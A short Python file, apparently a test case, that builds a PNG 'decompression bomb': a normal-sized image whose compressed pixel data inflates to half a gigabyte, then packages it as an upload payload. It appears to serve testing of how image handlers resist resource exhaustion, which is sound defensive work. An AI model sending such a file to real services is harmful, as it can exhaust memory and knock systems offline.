"""A PNG of the right size whose pixels unpack to half a gigabyte."""

import zlib


def upload(kit):
    png, header = kit.tools.png, kit.tools.png_header
    payload = png(header(), (b"IDAT", zlib.compress(b"\xff" * 2**29, 9)), (b"IEND", b""))
    return kit.image({"payload": kit.tools.File(payload)}).tar()
